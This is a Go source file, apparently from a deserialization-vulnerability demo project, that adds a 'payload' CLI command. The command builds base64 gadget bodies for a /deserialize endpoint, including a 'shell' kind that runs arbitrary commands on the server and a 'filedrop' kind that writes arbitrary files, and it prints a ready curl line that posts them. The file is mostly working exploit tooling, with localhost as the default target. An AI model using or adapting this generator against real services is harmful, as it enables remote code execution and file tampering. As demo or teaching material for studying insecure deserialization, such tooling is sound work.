package main

import (
	"fmt"
	"strings"

	"al.essio.dev/pkg/shellescape"
	"github.com/spf13/cobra"

	"vulnDemo/internal/gadget"
)

// newPayloadCmd builds base64 bodies for POST /deserialize.
func newPayloadCmd() *cobra.Command {
	var target, shell string
	cmd := &cobra.Command{
		Use:   "payload <note|shell|filedrop> args...",
		Short: "Print a /deserialize body and a curl line that posts it",
		Long: `Kinds:
  note <text>               plain value, echoed back
  shell <command>           runs <command> on the server while it is decoded
  filedrop <path> <content> writes <content> to <path> on the server while it is decoded`,
		Args: cobra.MinimumNArgs(2),

		// skips the root's config loading
		PersistentPreRunE: func(*cobra.Command, []string) error { return nil },

		RunE: func(cmd *cobra.Command, args []string) error {
			v, err := buildPayload(args[0], args[1:], shell)
			if err != nil {
				return err
			}
			blob, err := gadget.EncodeBase64(v)
			if err != nil {
				return err
			}
			out := cmd.OutOrStdout()
			_, _ = fmt.Fprintln(out, blob)
			_, err = fmt.Fprintln(out, curlLine(strings.TrimRight(target, "/")+"/deserialize", blob))
			return err
		},
	}
	cmd.Flags().StringVar(&target, "url", "http://127.0.0.1:5000", "base URL of the demo server")
	cmd.Flags().StringVar(&shell, "shell", "", "interpreter a shell payload runs under (default "+gadget.DefaultShell+")")
	return cmd
}

func buildPayload(kind string, args []string, shell string) (any, error) {
	switch kind {
	case "note":
		return gadget.Note{Text: strings.Join(args, " ")}, nil
	case "shell":
		return gadget.ShellCommand{Shell: shell, Command: strings.Join(args, " ")}, nil
	case "filedrop":
		if len(args) < 2 {
			return nil, fmt.Errorf("filedrop needs <path> <content>")
		}
		return gadget.FileDrop{Path: args[0], Content: []byte(strings.Join(args[1:], " "))}, nil
	default:
		return nil, fmt.Errorf("unknown payload kind %q", kind)
	}
}

func curlLine(url, blob string) string {
	return shellescape.QuoteCommand([]string{"curl", "-s", "-X", "POST", "--data-binary", blob, url})
}
